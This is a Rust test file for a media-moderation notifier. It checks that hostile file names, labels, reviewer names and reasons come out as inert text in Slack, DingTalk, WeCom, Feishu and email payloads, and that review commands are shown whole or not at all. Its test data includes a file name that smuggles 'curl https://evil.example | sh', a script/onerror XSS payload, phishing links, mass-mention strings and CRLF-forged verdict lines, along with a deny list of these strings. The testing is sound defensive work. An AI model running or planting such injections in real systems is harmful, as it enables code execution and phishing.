//! Hostile file names and labels through every channel's payload: links, mentions, HTML,
//! control characters and 1,000-character names come out as inert text. Review notices carry
//! them in more places (the decision commands' inputs and function name, the link's expiry,
//! the reviewer and the reason): a command is shown whole and reads back as the producer's
//! input, or is not shown at all.

use serde_json::{json, Value};
use shared::events::contracts::media::{FlaggedLabel, MediaFlagged, MediaKind, ReviewAid, Verdict};
use shared::events::contracts::review::{Decision, MediaReviewed};
use shared::events::{Envelope, Severity};
use shared::testkit::StaticSecrets;
use shared::time::BusinessTimeZone;

use super::email::EmailChannel;
use super::slack::SlackChannel;
use super::test_support::{self, attempt, secrets};
use crate::escape::CommandFormat;
use crate::language::Language;
use crate::render::{render, Notification, MAX_COMMAND_BYTES};
use crate::routing::{EmailSpec, FeishuFormat, SmtpSecurity};

/// File names (S3 keys) an uploader chooses.
const HOSTILE_NAMES: &[&str] = &[
    "[click me](https://evil.example/phish).mp4",
    "![img](https://evil.example/x.png).mp4",
    "<@all> <@zhangsan>.mp4",
    "<at user_id=\"all\">everyone</at>.mp4",
    "<!channel> <!here> <https://evil.example|bank>.mp4",
    "<script>alert(1)</script><img src=x onerror=alert(1)>.mp4",
    "<font color=\"warning\">urgent</font>.mp4",
    "**bold** _it_ `code` # heading ~~gone~~ | table |.mp4",
    "@13800000000 @all.mp4",
    "back\\slash\\[not a link\\](x).mp4",
];

fn names() -> Vec<String> {
    let mut names: Vec<String> = HOSTILE_NAMES.iter().map(|s| s.to_string()).collect();
    names.push(format!("{}.mp4", "长".repeat(1000)));
    names.push("a'; curl https://evil.example | sh; echo 'b\n\u{202e}4pm.exe".to_string());
    names
}

/// The decision input a producer would write for `key`.
fn decision_input(key: &str, decision: &str) -> String {
    json!({"review": {"bucket": "media", "decision": decision, "key": key, "reviewer": "your-name"}})
        .to_string()
}

/// Review notices naming `name` everywhere an uploader or a reviewer chooses text: a request
/// whose commands can be shown, one whose function name is hostile, one whose input is not
/// JSON, and a decision.
fn review_envelopes(name: &str) -> Vec<Envelope> {
    let key = format!("covers/{name}");
    let subject = format!("s3://media/{key}");
    let aid = ReviewAid {
        link: Some("https://console.example.com/m/1)[evil](https://evil.example".into()),
        link_expires_at: Some(format!("{name}\r\n**Verdict**: approve")),
        function_name: "media-suite-prod-ai-processor".into(),
        approve_input: decision_input(&key, "approved"),
        reject_input: decision_input(&key, "rejected"),
    };
    let flagged = |aid: ReviewAid| MediaFlagged {
        bucket: "media".into(),
        key: key.clone(),
        version_id: Some(name.to_string()),
        kind: MediaKind::Image,
        verdict: Verdict::Review,
        labels: vec![
            FlaggedLabel {
                name: format!("line\nbreak {name}"),
                category: name.to_string(),
                confidence: 97.0,
                verdict: Verdict::Review,
            },
            FlaggedLabel {
                name: "tab\there".into(),
                category: "x".into(),
                confidence: 60.0,
                verdict: Verdict::Review,
            },
        ],
        backend: "rekognition".into(),
        analysis_document: format!("s3://results/analysis/{key}.json"),
        review: Some(aid),
    };
    let reviewed = MediaReviewed {
        bucket: "media".into(),
        key: key.clone(),
        version_id: None,
        decision: Decision::Approved,
        reviewer: name.to_string(),
        reason: Some(format!("{name}\r\n**Verdict**: approve")),
        previous_verdict: Some(Verdict::Rejected),
        changed: true,
        uploaded_at: None,
        decided_at: "2026-11-30T14:05:00Z".into(),
        wait_ms: Some(7_500_000),
        analysis_document: format!("s3://results/analysis/{key}.json"),
    };
    let of_flagged = |aid: ReviewAid, discriminator: &str| {
        Envelope::of(
            &flagged(aid),
            "ai-processor",
            &subject,
            Severity::Critical,
            discriminator,
        )
    };
    vec![
        of_flagged(aid.clone(), "shown"),
        of_flagged(
            ReviewAid {
                function_name: name.to_string(),
                ..aid.clone()
            },
            "hostile function",
        ),
        of_flagged(
            ReviewAid {
                approve_input: format!("{name}\n**Verdict**: approve"),
                ..aid
            },
            "not json",
        ),
        Envelope::of(&reviewed, "ai-processor", &subject, Severity::Critical, ""),
    ]
}

fn hostile_events(language: Language) -> Vec<(String, Notification, Envelope)> {
    let zone = BusinessTimeZone::parse("Asia/Shanghai").unwrap();
    let mut out: Vec<(String, Notification, Envelope)> = names()
        .into_iter()
        .map(|name| {
            let envelope = Envelope::new(
                "media.flagged",
                "ai-processor",
                &format!("s3://media/uploads/{name}"),
                Severity::Critical,
                "",
                json!({
                    "verdict": "review",
                    "labels": [format!("line\nbreak {name}"), "tab\there"],
                    "reason": format!("{name}\r\n**Verdict**: approve"),
                    "link": "https://console.example.com/m/1)[evil](https://evil.example"
                }),
            );
            let n = render(&envelope, language, &zone);
            (name, n, envelope)
        })
        .collect();
    for name in names() {
        for envelope in review_envelopes(&name) {
            out.push((name.clone(), render(&envelope, language, &zone), envelope));
        }
    }
    out
}

/// A decision command line (in a code span for WeCom): the whole command, whose input reads
/// back as the producer's, within the bound. `None` for other lines.
fn check_command_line(line: &str, e: &Envelope, name: &str) -> Option<()> {
    let line = line
        .strip_prefix('`')
        .and_then(|l| l.strip_suffix('`'))
        .unwrap_or(line);
    let payload = line
        .strip_prefix("aws lambda invoke --function-name media-suite-prod-ai-processor --cli-binary-format raw-in-base64-out --payload '")?
        .strip_suffix("' /dev/stdout")
        .unwrap_or_else(|| panic!("a cut command for {name:?}: {line}"));
    assert!(line.len() <= MAX_COMMAND_BYTES, "{name:?}: {}", line.len());
    let input: Value =
        serde_json::from_str(payload).unwrap_or_else(|err| panic!("{name:?}: {err}: {payload}"));
    let aid = &e.data["review"];
    let produced =
        |field: &str| serde_json::from_str::<Value>(aid[field].as_str().unwrap()).unwrap();
    assert!(
        input == produced("approve_input") || input == produced("reject_input"),
        "{name:?}: the command records something else: {payload}"
    );
    Some(())
}

/// Lines of a rendered text: each at most 400 characters, except decision commands, which
/// are whole and exact.
fn assert_bounded_lines(text: &str, e: &Envelope, name: &str) {
    for line in text.lines() {
        if check_command_line(line, e, name).is_none() {
            assert!(
                line.chars().count() <= 400,
                "a line of {} characters for {name:?}",
                line.chars().count()
            );
        }
    }
}

/// Review requests whose function name and input are usable show both commands; the
/// others show none.
#[test]
fn review_commands_are_shown_whole_or_not_at_all() {
    for language in [Language::En, Language::Zh] {
        let mut shown = 0;
        for (name, n, e) in hostile_events(language) {
            if e.event_type != "media.flagged" || e.data.get("review").is_none() {
                continue;
            }
            let usable = e.data["review"]["function_name"] == "media-suite-prod-ai-processor"
                && serde_json::from_str::<Value>(
                    e.data["review"]["approve_input"].as_str().unwrap(),
                )
                .is_ok();
            let fits = n
                .commands
                .iter()
                .all(|c| c.text(CommandFormat::ChatMarkdown).len() <= MAX_COMMAND_BYTES);
            assert!(fits, "{name:?}");
            if usable && name.chars().count() < 200 {
                assert_eq!(n.commands.len(), 2, "{name:?}");
                shown += 1;
            } else if !usable {
                assert!(n.commands.is_empty(), "{name:?}");
            }
            for c in &n.commands {
                for format in [CommandFormat::Text, CommandFormat::ChatMarkdown] {
                    check_command_line(&c.text(format), &e, &name).expect("a decision command");
                }
            }
        }
        assert_eq!(
            shown,
            names().len() - 1,
            "every short name gets its commands"
        );
    }
}

/// No markdown link or image, no mention, no HTML tag, no emphasis, no heading in the text
/// outside what the channel itself wrote.
fn assert_inert_markdown(text: &str, e: &Envelope, name: &str) {
    for forbidden in [
        "](https://evil",
        "![",
        "<@",
        "<at",
        "<script",
        "<img",
        "<font",
        "<!channel",
        "**bold**",
        "`code`",
        "~~",
        "@all",
        "@13800000000",
        "\n# ",
        "**Verdict**: approve",
    ] {
        assert!(
            !text.contains(forbidden),
            "{forbidden:?} survived for {name:?}:\n{text}"
        );
    }
    assert_bounded_lines(text, e, name);
}

#[test]
fn dingtalk_markdown_is_inert() {
    let channel = test_support::dingtalk();
    for language in [Language::Zh, Language::En] {
        for (name, n, e) in hostile_events(language) {
            let payload = channel.payload(&attempt(&e, &n));
            assert_inert_markdown(payload["markdown"]["text"].as_str().unwrap(), &e, &name);
            assert_eq!(payload["at"]["isAtAll"], false);
            assert_eq!(payload["at"]["atMobiles"], json!([]));
        }
    }
}

#[test]
fn wecom_markdown_is_inert() {
    let channel = test_support::wecom();
    for (name, n, e) in hostile_events(Language::Zh) {
        let payload = channel.payload(&attempt(&e, &n));
        assert_inert_markdown(payload["markdown"]["content"].as_str().unwrap(), &e, &name);
    }
}

#[test]
fn feishu_card_and_text_are_inert() {
    for format in [FeishuFormat::Card, FeishuFormat::Text] {
        let channel = test_support::feishu(format);
        for (name, n, e) in hostile_events(Language::Zh) {
            let payload = channel.payload(&attempt(&e, &n));
            match format {
                FeishuFormat::Card => {
                    let card = &payload["card"];
                    let md = card["elements"][0]["text"]["content"].as_str().unwrap();
                    assert_inert_markdown(md, &e, &name);
                    assert_eq!(card["header"]["title"]["tag"], "plain_text");
                    // The button's URL is a parsed https URL that cannot leave its field.
                    if n.link.is_some() {
                        let url = card["elements"][1]["actions"][0]["url"].as_str().unwrap();
                        assert!(
                            url.starts_with("https://console.example.com/") && !url.contains(')')
                        );
                    }
                }
                FeishuFormat::Text => {
                    let text = payload["content"]["text"].as_str().unwrap();
                    assert!(
                        !text.contains("<at") && !text.contains('<'),
                        "{name:?}: {text}"
                    );
                    assert!(!text.contains("\n**Verdict**: approve"), "{text}");
                }
            }
        }
    }
}

fn slack_texts(payload: &Value) -> Vec<String> {
    let mut out = vec![payload["text"].as_str().unwrap().to_string()];
    for block in payload["blocks"].as_array().unwrap() {
        if let Some(fields) = block["fields"].as_array() {
            out.extend(
                fields
                    .iter()
                    .map(|f| f["text"].as_str().unwrap().to_string()),
            );
        }
        // The header is `plain_text`, which Slack never interprets.
        if block["text"]["type"] == "mrkdwn" {
            out.push(block["text"]["text"].as_str().unwrap().to_string());
        }
        if let Some(elements) = block["elements"].as_array() {
            out.extend(
                elements
                    .iter()
                    .filter_map(|e| e["text"].as_str().map(str::to_string)),
            );
        }
    }
    out
}

#[test]
fn slack_blocks_and_fallback_text_are_inert() {
    for (name, n, e) in hostile_events(Language::En) {
        let payload = SlackChannel::<StaticSecrets>::payload(&attempt(&e, &n));
        for text in slack_texts(&payload) {
            // Slack reads links and mentions only between < and >; our own link is the one
            // `<https://console.example.com/...|Open>` (or `|View the upload>`).
            let outside_own_link = text.replace(
                &format!(
                    "<{}|{}>",
                    n.link.as_deref().unwrap_or_default(),
                    n.link_text
                ),
                "",
            );
            assert!(
                !outside_own_link.contains('<') && !outside_own_link.contains('>'),
                "{name:?}: {text}"
            );
            assert!(text.chars().count() <= 2000, "{name:?}");
        }
        let header = payload["blocks"][0]["text"]["text"].as_str().unwrap();
        assert!(header.chars().count() <= 150);
    }
}

#[test]
fn plain_text_channels_get_one_line_per_fact_and_bounded_subjects() {
    let email = EmailChannel::new(
        EmailSpec {
            smtp_host: "127.0.0.1".into(),
            smtp_port: None,
            security: SmtpSecurity::None,
            secret_id: None,
            from: "bot@example.com".into(),
            to: vec!["ops@example.com".into()],
        },
        secrets(),
    );
    for (name, n, e) in hostile_events(Language::En) {
        // A forged fact line needs a line break inside a value.
        let text = n.plain_text();
        assert!(!text.contains("\n**Verdict**: approve"), "{name:?}");
        assert_bounded_lines(&text, &e, &name);
        let subject = crate::adapters::sns::subject(&n.title);
        assert!(subject.chars().count() < 100 && !subject.contains('\n'));
        let mail = email.message_for_test(&attempt(&e, &n));
        let headers = String::from_utf8_lossy(&mail);
        let header_end = headers.find("\r\n\r\n").unwrap();
        assert!(
            !headers[..header_end].contains("\r\n**Verdict"),
            "{name:?}: a header line was forged"
        );
    }
}
